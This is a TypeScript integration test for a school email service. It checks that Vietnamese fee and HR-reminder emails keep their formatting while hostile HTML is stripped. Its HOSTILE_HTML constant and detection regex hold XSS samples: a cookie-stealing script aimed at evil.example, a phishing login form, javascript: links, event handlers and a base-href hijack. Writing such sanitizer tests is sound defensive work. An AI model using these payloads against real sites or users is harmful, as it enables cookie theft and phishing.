import { TestingModule } from '@nestjs/testing';
import { ParsedMail } from 'mailparser';
import { SendEmailV3 } from 'phx-node';
import {
  EMAIL_SENDER,
  EmailSender,
} from '../../../../apps/signal/src/phx-push/channels/email-sender';
import { emailPayload, hrmRemindEmail } from '../../../../libs/phx-node/test/payloads';
import { SmtpTestServer } from '../../../support/smtp-test-server';
import { startPhxChannels } from './phx-channels-testing';

/** Seed 004 §9.2's fee notice, its `content` written as the HTML a fee system sends. */
const FEE_NOTICE_HTML = [
  '<p>Kính gửi Quý phụ huynh,</p>',
  '<p>Học phí <b>tháng 12</b> của bé <strong>Nguyễn Minh Anh</strong>:</p>',
  '<table border="1" cellpadding="4"><tr><th>Khoản</th><th>Số tiền</th></tr>',
  '<tr><td>Học phí</td><td align="right">3.500.000đ</td></tr>',
  '<tr><td>Ăn bán trú</td><td align="right">900.000đ</td></tr></table>',
  '<ul><li>Hạn nộp: <span style="color:#c62828;font-weight:bold">10/12</span></li>',
  '<li>Chuyển khoản hoặc nộp tại văn phòng</li></ul>',
  '<p>Chi tiết: <a href="https://portal.phx.vn/fees/2024-12" target="_self">Cổng phụ huynh</a>, ',
  'thắc mắc: <a href="mailto:ketoan@phx.vn">ketoan@phx.vn</a></p>',
].join('');

/** What a compromised or careless caller could put around it. */
const HOSTILE_HTML = [
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<img src="https://t.example/open.gif?u=8652" width="1" height="1">',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" style="background:url(https://t.example/bg.gif)">Nhấn vào đây</p>',
  '<a href="JaVaScRiPt:alert(1)">Thanh toán ngay</a>',
  '<a href="&#106;avascript&colon;alert(1)">Xác nhận</a>',
  '<form action="https://evil.example/login"><input name="password"><button>Đăng nhập</button></form>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body{background:url(https://t.example/css.gif)}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<svg onload=alert(1)></svg>',
  '<!--<script>alert(2)</script>-->',
].join('');

const HOSTILE_PARTS =
  /<script|<img|<form|<input|<iframe|<style|<base|<svg|<meta http-equiv|onclick|onerror|onload|javascript:|url\(|evil\.example|t\.example|alert\(/i;

const seedFeeNotice = (overrides: Partial<SendEmailV3> = {}) =>
  emailPayload(overrides).sendEmailV3 as SendEmailV3;
const seedHrmRemind = (overrides: Partial<SendEmailV3> = {}) =>
  hrmRemindEmail(overrides).sendEmailV3 as SendEmailV3;

describe('PHX e-mail HTML: seed 004 e-mails through the channel thread to a real SMTP server', () => {
  let smtp: SmtpTestServer;
  let channels: TestingModule;
  let sut: EmailSender;

  beforeAll(async () => {
    smtp = await SmtpTestServer.start();
    channels = await startPhxChannels({
      SMTP_URL: smtp.url,
      SMTP_FROM: 'PHX School <no-reply@phx.example>',
      SMTP_TIMEOUT_MS: '3000',
    });
    sut = channels.get<EmailSender>(EMAIL_SENDER);
  });

  afterAll(async () => {
    await channels.close();
    await smtp.close();
  });

  async function sendAndReceive(id: string, email: SendEmailV3): Promise<ParsedMail> {
    const { messageId } = await sut.send(id, email);
    const received = smtp.received.find(({ mail }) => mail.messageId === messageId);
    if (!received) throw new Error(`the SMTP server did not receive ${messageId}`);
    return received.mail;
  }

  it('should send HTML content as formatted HTML with a text part that reads the same', async () => {
    const mail = await sendAndReceive('html-fee-1', seedFeeNotice({ content: FEE_NOTICE_HTML }));

    const html = String(mail.html);
    expect(mail.subject).toBe('Thông báo học phí');
    expect(html).toContain(
      '<p>Học phí <b>tháng 12</b> của bé <strong>Nguyễn Minh Anh</strong>:</p>',
    );
    expect(html).toContain('<tr><td>Học phí</td><td align="right">3.500.000đ</td></tr>');
    expect(html).toContain(
      '<li>Hạn nộp: <span style="color:#c62828;font-weight:bold">10/12</span></li>',
    );
    expect(html).toContain(
      '<a href="https://portal.phx.vn/fees/2024-12" rel="noopener noreferrer" target="_blank">Cổng phụ huynh</a>',
    );
    expect(html).toContain(
      '<a href="mailto:ketoan@phx.vn" rel="noopener noreferrer">ketoan@phx.vn</a>',
    );
    expect(html).not.toContain('&lt;');
    expect(mail.text).toBe(
      [
        'Thông báo học phí',
        '',
        'Kính gửi Quý phụ huynh,',
        '',
        'Học phí tháng 12 của bé Nguyễn Minh Anh:',
        '',
        'Khoản        Số tiền',
        'Học phí      3.500.000đ',
        'Ăn bán trú   900.000đ',
        '',
        '- Hạn nộp: 10/12',
        '- Chuyển khoản hoặc nộp tại văn phòng',
        '',
        'Chi tiết: Cổng phụ huynh [https://portal.phx.vn/fees/2024-12], thắc mắc: ketoan@phx.vn',
        '',
      ].join('\n'),
    );
  });

  it('should remove every hostile part of the HTML and keep the rest', async () => {
    const mail = await sendAndReceive(
      'html-fee-2',
      seedFeeNotice({ content: `${HOSTILE_HTML}<p>Học phí <b>tháng 12</b></p>` }),
    );

    const html = String(mail.html);
    expect(html).toContain('<p>Học phí <b>tháng 12</b></p>');
    expect(html).toContain('<p>Nhấn vào đây</p><a>Thanh toán ngay</a><a>Xác nhận</a>Đăng nhập');
    expect(html).not.toMatch(HOSTILE_PARTS);
    expect(mail.text).not.toMatch(HOSTILE_PARTS);
    expect(mail.text).toBe(
      'Thông báo học phí\n\nNhấn vào đây\n\nThanh toán ngayXác nhậnĐăng nhập\n\nHọc phí tháng 12\n',
    );
  });

  it("should send the seed's own plain-text content with its pre-header, as before", async () => {
    const mail = await sendAndReceive('html-fee-3', seedFeeNotice());

    const html = String(mail.html);
    expect(html).toMatch(
      /<div class="preheader" style="display:none;[^"]*">Nhà trường xin thông báo\.\.\./,
    );
    expect(html).toContain(
      '<div class="content" style="font-size:15px;line-height:1.6;">Nội dung chi tiết...</div>',
    );
    expect(mail.text).toBe('Thông báo học phí\n\nNội dung chi tiết...\n');
  });

  it('should render an hrm-remind HTML description sanitized beside its escaped request groups', async () => {
    const mail = await sendAndReceive(
      'html-remind-1',
      seedHrmRemind({
        subject: 'Yêu cầu chờ duyệt',
        title: 'Bạn có 3 yêu cầu chờ duyệt',
        previewText: 'Đăng ký làm thêm đang chờ',
        description:
          'Vui lòng xử lý <b>trước 17:00 thứ Sáu</b>.<br>Hướng dẫn: <a href="https://portal.phx.vn/hrm/help">xem tại đây</a><img src=x onerror=alert(1)>',
        listRequests: [
          {
            type: 'OVERTIME',
            title: 'Đăng ký <b>làm thêm</b>',
            total: 3,
            link: 'https://portal.phx.vn/hrm/overtime',
            requests: [{ id: 41, title: 'Làm thêm thứ Bảy', requester: 'Trần Thị <i>B</i>' }],
          },
        ],
      }),
    );

    const html = String(mail.html);
    expect(html).toContain(
      'Vui lòng xử lý <b>trước 17:00 thứ Sáu</b>.<br />Hướng dẫn: <a href="https://portal.phx.vn/hrm/help" rel="noopener noreferrer" target="_blank">xem tại đây</a></div>',
    );
    // The request groups are text: their markup is shown, not applied.
    expect(html).toContain('Đăng ký &lt;b&gt;làm thêm&lt;/b&gt; <span class="total">(3)</span>');
    expect(html).toContain('<li>Làm thêm thứ Bảy — Trần Thị &lt;i&gt;B&lt;/i&gt;</li>');
    expect(html).not.toMatch(/<img|onerror|alert\(/);
    expect(mail.text).toBe(
      [
        'Bạn có 3 yêu cầu chờ duyệt',
        '',
        'Vui lòng xử lý trước 17:00 thứ Sáu.',
        'Hướng dẫn: xem tại đây [https://portal.phx.vn/hrm/help]',
        '',
        'Đăng ký <b>làm thêm</b> (3)',
        '- Làm thêm thứ Bảy — Trần Thị <i>B</i>',
        '',
        'Xem chi tiết [https://portal.phx.vn/hrm/overtime]',
        '',
      ].join('\n'),
    );
  });
});
